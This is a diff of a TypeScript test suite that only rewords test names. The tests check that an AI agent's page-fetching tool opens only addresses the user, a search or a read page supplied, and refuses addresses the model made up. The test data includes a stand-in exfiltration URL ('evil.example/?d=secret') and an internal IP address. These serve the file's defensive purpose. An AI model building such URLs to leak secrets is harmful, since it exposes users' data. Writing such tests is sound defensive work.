@@ -9,7 +9,7 @@ type Pages = { pages: { url: string; status: string; note?: string }[] };
 const pagesOf = (test: Awaited<ReturnType<typeof run>>, call: string) => (output(test, call) as Pages).pages;
 
 describe("addresses that nobody named", () => {
-  it("SEC-4: are refused before anything is fetched, with a sentence the model can act on", async () => {
+  it("SEC-4: are rejected before anything is fetched, with a sentence that the model can act on", async () => {
     const test = await run({
       question: "Why?",
       calls: [[readPages("https://evil.example/?d=secret", "http://10.0.0.1/", "https://docs.example/")]],
@@ -23,7 +23,7 @@ describe("addresses that nobody named", () => {
     expect(test.fetched).toEqual([]);
   });
 
-  it("SEC-4: an address that was found is not that address with another query", async () => {
+  it("SEC-4: a found address with another query is a different address", async () => {
     const test = await run({
       question: "Why?",
       calls: [
@@ -45,7 +45,7 @@ describe("addresses that nobody named", () => {
     expect(test.fetched[0]).toMatch(/^https:\/\/a\.test\/page(#|$)/);
   });
 
-  it("SEC-4: what is opened is the address as it was seen, without what the model put to it", async () => {
+  it("SEC-4: the address is opened as it was seen, without the model's additions", async () => {
     const test = await run({
       question: "What does https://typed.example/x say?",
       calls: [
@@ -68,7 +68,7 @@ describe("addresses that nobody named", () => {
     ]);
   });
 
-  it("SEC-4: the words of the model open nothing: neither its queries, nor its plan, nor its reasons", async () => {
+  it("SEC-4: the model's own words open nothing: neither its queries, nor its plan, nor its reasons", async () => {
     const test = await run({
       question: "Why?",
       calls: [
@@ -83,7 +83,7 @@ describe("addresses that nobody named", () => {
 });
 
 describe("addresses that may be opened", () => {
-  it("SEC-4: what a search found, also in the words of a result", async () => {
+  it("SEC-4: search results, also addresses within their text", async () => {
     const test = await run({
       question: "Why?",
       calls: [[search("x")], [readPages("https://a.test/page", "https://other.example/in-words")]],
@@ -93,7 +93,7 @@ describe("addresses that may be opened", () => {
     expect(test.fetched).toEqual(["https://a.test/page", "https://other.example/in-words"]);
   });
 
-  it("SEC-4: what a page names that was read, step after step", async () => {
+  it("SEC-4: addresses in pages that were read, step by step", async () => {
     const links: Record<string, string> = {
       "https://a.test/page": "See [the next](https://b.example/next?page=2).",
       "https://b.example/next?page=2": "And https://c.example/end too.",
@@ -116,7 +116,7 @@ describe("addresses that may be opened", () => {
     ]);
   });
 
-  it("SEC-4: what the person wrote in the question, with or without its scheme", async () => {
+  it("SEC-4: addresses in the user's question, with or without a scheme", async () => {
     const test = await run({
       question: "Compare docs.example/guide with https://пример.example/.",
       calls: [[readPages("https://docs.example/guide", "https://xn--e1afmkfd.example/")]],
@@ -125,7 +125,7 @@ describe("addresses that may be opened", () => {
     expect(pagesOf(test, "1-0").map(({ status }) => status)).toEqual(["read", "read"]);
   });
 
-  it("SEC-4: what the person wrote earlier in the thread", async () => {
+  it("SEC-4: addresses that the user wrote earlier in the thread", async () => {
     const test = await run({
       question: "And now?",
       earlier: [
@@ -144,8 +144,8 @@ describe("addresses that may be opened", () => {
   });
 });
 
-describe("a run that works for another", () => {
-  it("SEC-4: its question opens nothing but what the other run could open and passed on", async () => {
+describe("a delegate", () => {
+  it("SEC-4: its question opens only addresses that the parent run could open and passed on", async () => {
     const asked = "Read https://docs.example/a. and https://evil.example/?d=secret";
     const parent = await run({ question: "What says docs.example/a?", calls: [], read: readAll });
     expect(addressesToPassOn(parent.state, asked)).toEqual(["https://docs.example/a"]);
